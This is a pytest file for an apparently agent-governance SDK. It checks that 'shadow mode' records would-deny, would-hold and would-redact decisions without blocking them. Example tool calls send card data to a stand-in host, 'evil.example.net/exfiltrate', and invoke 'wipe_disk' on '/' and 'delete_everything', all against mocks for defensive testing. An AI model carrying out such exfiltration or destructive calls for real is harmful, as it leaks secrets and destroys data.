"""Shadow mode: every decision asked and recorded, nothing blocked or rewritten, and what
enforcing would have done recorded as "would deny / hold / redact … (shadow)".

Against the embedded platform with the demo policy (the `tracengent_platform` fixture) and the
served one (`tracengent dev` on loopback), over the real clients and gates.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import warnings
from pathlib import Path
from typing import Any

import flask
import httpx
import pytest
from fastapi import Depends, FastAPI
from opentelemetry.sdk.trace import TracerProvider
from opentelemetry.sdk.trace.export import SimpleSpanProcessor
from opentelemetry.sdk.trace.export.in_memory_span_exporter import InMemorySpanExporter

from tracengent import (
    AsyncTracengentClient,
    NotAuthorizedException,
    ToolDeniedException,
    TracengentClient,
    TracengentConfigError,
    TracengentOptions,
    async_governed_client,
    governed_client,
)
from tracengent.integrations import fastapi as tg_fastapi, flask as tg_flask
from tracengent.integrations.opentelemetry import instrument_opentelemetry
from tracengent.testing import PlatformRecorder

from ._served import served_platform

with warnings.catch_warnings():  # newer Starlette deprecates its httpx-based TestClient
    warnings.simplefilter("ignore", DeprecationWarning)
    from fastapi.testclient import TestClient

CARD = "4242 4242 4242 4242"


class Tool:
    """An HTTP tool behind the gate: what reached it, byte for byte."""

    def __init__(self) -> None:
        self.received: list[httpx.Request] = []

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.received.append(request)
        return httpx.Response(200, json={"ok": True})

    @property
    def bodies(self) -> list[Any]:
        return [json.loads(r.content) if r.content else None for r in self.received]


def shadow_events(recorder: PlatformRecorder, trace_id: str) -> list[dict[str, Any]]:
    return [
        e
        for e in recorder.events(trace_id, type="decision")
        if isinstance(e.get("attributes"), dict) and e["attributes"].get("shadow") is True
    ]


def test_the_egress_refusal_is_let_through_and_recorded_as_would_deny(
    tracengent_platform: PlatformRecorder,
) -> None:
    tool = Tool()
    with tracengent_platform.client(enforcement="shadow") as client:
        with client.begin_trace("shadow rollout") as trace:
            http = governed_client(client, inner=httpx.MockTransport(tool))
            answer = http.post("https://evil.example.net/exfiltrate", json={"card": "4242"})
    assert answer.status_code == 200
    assert tool.bodies == [{"card": "4242"}]  # the original request left, unchanged
    [shadow] = shadow_events(tracengent_platform, trace.trace_id)
    assert shadow["name"] == "would deny POST evil.example.net (shadow)"
    assert shadow["attributes"]["would"] == "deny"
    assert shadow["attributes"]["status"] == "denied"
    # the decision itself is still asked and stored as the refusal it is
    [decision] = tracengent_platform.decisions(trace.trace_id)
    assert (decision.status, decision.outcome) == ("denied", "egress_deny")
    assert "would deny POST evil.example.net (shadow)" in tracengent_platform.timeline(
        trace.trace_id
    )


def test_a_redaction_is_not_applied_and_is_recorded_as_would_redact(
    tracengent_platform: PlatformRecorder,
) -> None:
    tool = Tool()
    with tracengent_platform.client(enforcement="shadow") as client:
        with client.begin_trace("refund") as trace:
            http = governed_client(client, inner=httpx.MockTransport(tool))
            body = {"amount": 120, "currency": "EUR", "card": CARD}
            http.post("https://api.stripe.com/v1/refunds", json=body)
    assert tool.bodies == [body]  # the card the policy would remove still went out
    [shadow] = shadow_events(tracengent_platform, trace.trace_id)
    assert shadow["attributes"]["would"] == "redact"
    assert shadow["attributes"]["status"] == "allowed"


def test_the_same_calls_are_blocked_and_redacted_when_enforced(
    tracengent_platform: PlatformRecorder,
) -> None:
    tool = Tool()
    with tracengent_platform.client() as client:  # the default: enforce
        assert client.options.enforcement == "enforce"
        with client.begin_trace("enforced") as trace:
            http = governed_client(client, inner=httpx.MockTransport(tool))
            with pytest.raises(ToolDeniedException):
                http.post("https://evil.example.net/exfiltrate", json={"card": "4242"})
            http.post(
                "https://api.stripe.com/v1/refunds",
                json={"amount": 120, "currency": "EUR", "card": CARD},
            )
    assert tool.bodies == [{"amount": 120, "currency": "EUR"}]
    assert shadow_events(tracengent_platform, trace.trace_id) == []


def test_ensure_authorized_returns_for_a_deny_and_does_not_wait_for_a_hold(
    tracengent_platform: PlatformRecorder,
) -> None:
    with tracengent_platform.client(enforcement="shadow", approval_timeout_s=600) as client:
        with client.begin_trace("refunds") as trace:
            assert client.ensure_authorized("admin:wipe") is None
            assert client.ensure_authorized("payments:refund", {"amount": 400}) is None
            allowed = client.ensure_authorized("payments:refund", {"amount": 50})
    assert allowed is not None and allowed.redact_fields == ["$.card"]
    # the hold was not waited out (600 s): it is still pending, and said to be a would-hold
    assert [a.status for a in tracengent_platform.approvals()] == ["pending"]
    shadows = shadow_events(tracengent_platform, trace.trace_id)
    assert [(e["name"], e["attributes"]["would"]) for e in shadows] == [
        ("would deny admin:wipe (shadow)", "deny"),
        ("would hold payments:refund (shadow)", "hold"),
        ("would redact payments:refund (shadow)", "redact"),
    ]
    assert shadows[1]["attributes"]["approvalId"] == tracengent_platform.approvals()[0].approval_id
    # a redaction obligation that was not enforced binds nothing in the trace
    assert trace.obligation_redactions == ()


def test_one_call_can_be_enforced_in_shadow_mode_and_shadowed_in_enforce_mode(
    tracengent_platform: PlatformRecorder,
) -> None:
    ran: list[Any] = []
    with tracengent_platform.client(enforcement="shadow") as client:
        with pytest.raises(NotAuthorizedException):
            client.ensure_authorized("admin:wipe", enforcement="enforce")
        with pytest.raises(ToolDeniedException):
            client.tools.guard_function("wipe_disk", {}, ran.append, enforcement="enforce")
        http = governed_client(client, inner=httpx.MockTransport(Tool()), enforcement="enforce")
        with pytest.raises(ToolDeniedException):
            http.get("https://evil.example.net/")
    assert ran == []
    with tracengent_platform.client() as client:
        assert client.ensure_authorized("admin:wipe", enforcement="shadow") is None
        client.tools.guard_function("wipe_disk", {"all": True}, ran.append, enforcement="shadow")
    assert ran == [{"all": True}]


def test_refused_tools_and_functions_run_with_their_arguments_as_given(
    tracengent_platform: PlatformRecorder,
) -> None:
    calls: list[Any] = []
    with tracengent_platform.client(enforcement="shadow") as client:

        @client.tools.governed()
        def wipe_disk(path: str, force: bool = False) -> str:
            calls.append((path, force))
            return "wiped"

        with client.begin_trace("tools") as trace:
            assert wipe_disk("/", force=True) == "wiped"
            guard = client.tools.authorize_mcp("delete_everything", {"confirm": True})
            assert client.tools.guard_mcp("delete_everything", {"x": 1}, calls.append) is None
    assert calls == [("/", True), {"x": 1}]
    assert guard.allowed and guard.arguments == {"confirm": True}
    assert guard.decision.not_enforced == "deny"
    assert guard.decision.reason.startswith("shadow mode: would deny: ")
    names = [e["name"] for e in shadow_events(tracengent_platform, trace.trace_id)]
    assert names == [
        "would deny wipe_disk (shadow)",
        "would deny delete_everything (shadow)",
        "would deny delete_everything (shadow)",
    ]


async def test_the_async_client_shadows_the_same_way(
    tracengent_platform: PlatformRecorder,
) -> None:
    tool = Tool()
    options = tracengent_platform.options(enforcement="shadow")
    async with AsyncTracengentClient(options) as client:
        async with client.begin_trace("async shadow") as trace:
            assert await client.ensure_authorized("admin:wipe") is None
            http = async_governed_client(client, inner=httpx.MockTransport(tool))
            await http.post("https://evil.example.net/x", json={"a": 1})
            ran = await client.tools.guard_function("wipe_disk", {"n": 1}, lambda a: a["n"])
    assert ran == 1 and tool.bodies == [{"a": 1}]
    assert [
        e["attributes"]["would"] for e in shadow_events(tracengent_platform, trace.trace_id)
    ] == [
        "deny",
        "deny",
        "deny",
    ]


def test_the_option_comes_from_the_environment_and_a_bad_value_is_named(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setenv("TRACENGENT_ENFORCEMENT", "shadow")
    assert TracengentOptions.local().enforcement == "shadow"
    assert TracengentOptions.local(enforcement="enforce").enforcement == "enforce"
    monkeypatch.setenv("TRACENGENT_ENFORCEMENT", "off")
    with pytest.raises(TracengentConfigError, match="TRACENGENT_ENFORCEMENT") as bad:
        TracengentOptions.local().validate()
    assert "'enforce' or 'shadow'" in str(bad.value)


def test_a_bad_per_call_mode_is_refused_before_anything_is_asked(
    tracengent_platform: PlatformRecorder,
) -> None:
    with tracengent_platform.client() as client:
        with pytest.raises(ValueError, match="enforcement must be 'enforce' or 'shadow'"):
            client.ensure_authorized("admin:wipe", enforcement="off")  # type: ignore[arg-type]
        with pytest.raises(ValueError, match="enforcement must be"):
            client.tools.authorize_function("wipe_disk", enforcement="on")  # type: ignore[arg-type]
        with pytest.raises(ValueError, match="enforcement must be"):
            governed_client(client, enforcement="x").get("https://evil.example.net/")  # type: ignore[arg-type]
    with pytest.raises(ValueError, match=r"require_agent_permission\(enforcement=...\)"):
        tg_fastapi.require_agent_permission("admin:wipe", enforcement="no")  # type: ignore[arg-type]
    assert tracengent_platform.decisions() == []


def test_observers_and_opentelemetry_see_what_was_let_through(
    tracengent_platform: PlatformRecorder,
) -> None:
    exporter = InMemorySpanExporter()
    provider = TracerProvider()
    provider.add_span_processor(SimpleSpanProcessor(exporter))
    with tracengent_platform.client(enforcement="shadow") as client:
        instrumentation = instrument_opentelemetry(client, provider)
        with client.begin_trace("otel shadow") as trace:
            trace.track_tool_call("wipe", lambda: client.ensure_authorized("admin:wipe"))
        instrumentation.uninstrument()
    provider.shutdown()
    events = [e for span in exporter.get_finished_spans() for e in span.events]
    [shadow] = [e for e in events if e.name == "tracengent.shadow"]
    assert shadow.attributes is not None
    assert shadow.attributes["tracengent.shadow.would"] == "deny"
    assert shadow.attributes["tracengent.decision.allowed"] is False
    assert [e.name for e in events].count("tracengent.decision") == 1


def test_fastapi_and_flask_run_the_view_in_shadow_mode(
    tracengent_platform: PlatformRecorder,
) -> None:
    with tracengent_platform.client(enforcement="shadow") as client:
        api_app = FastAPI()
        gate = tg_fastapi.require_agent_permission("admin:wipe", client=client)
        enforced = tg_fastapi.require_agent_permission(
            "admin:wipe", client=client, enforcement="enforce"
        )

        @api_app.post("/wipe")
        def wipe(decision: Any = Depends(gate)) -> dict[str, bool]:  # noqa: B008
            return {"allowed": decision.allowed}

        @api_app.post("/wipe-enforced")
        def wipe_enforced(decision: Any = Depends(enforced)) -> dict[str, bool]:  # noqa: B008
            return {"allowed": decision.allowed}

        web = flask.Flask(__name__)

        @web.post("/wipe")
        @tg_flask.require_agent_permission("admin:wipe", client=client)
        def flask_wipe() -> str:
            return "wiped"

        api = TestClient(api_app)
        assert api.post("/wipe").json() == {"allowed": False}
        assert api.post("/wipe-enforced").status_code == 403
        assert web.test_client().post("/wipe").get_data(as_text=True) == "wiped"
    names = [e["name"] for e in tracengent_platform.events(type="decision")]
    assert names == ["would deny admin:wipe (shadow)"] * 2


def test_the_served_platform_stores_and_shows_the_would_deny(tmp_path: Path) -> None:
    tool = Tool()
    with served_platform(tmp_path / "data") as served:
        with TracengentClient(served.options(enforcement="shadow")) as client:
            with client.begin_trace("served shadow") as trace:
                http = governed_client(client, inner=httpx.MockTransport(tool))
                assert http.get("https://evil.example.net/data").status_code == 200
            assert client.flush(10)
        shown = served.cli("trace", trace.trace_id)
    assert shown.returncode == 0, shown.stderr
    assert "would deny GET evil.example.net (shadow)" in shown.stdout
    assert len(tool.received) == 1


def test_the_demo_in_shadow_mode_lets_the_egress_refusal_through(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith("TRACENGENT_")}
    env.update(TRACENGENT_ENFORCEMENT="shadow", TRACENGENT_DATA=str(tmp_path / "data"))
    demo = Path(__file__).resolve().parent.parent / "samples" / "demo_agent.py"
    run = subprocess.run(
        [sys.executable, str(demo)], env=env, capture_output=True, text=True, timeout=120
    )
    assert run.returncode == 0, run.stderr
    assert "would deny POST evil.example.net (shadow)" in run.stdout
    assert "would hold payments:refund (shadow)" in run.stdout
    assert "refused (egress_deny)" not in run.stdout  # it was let through, not raised
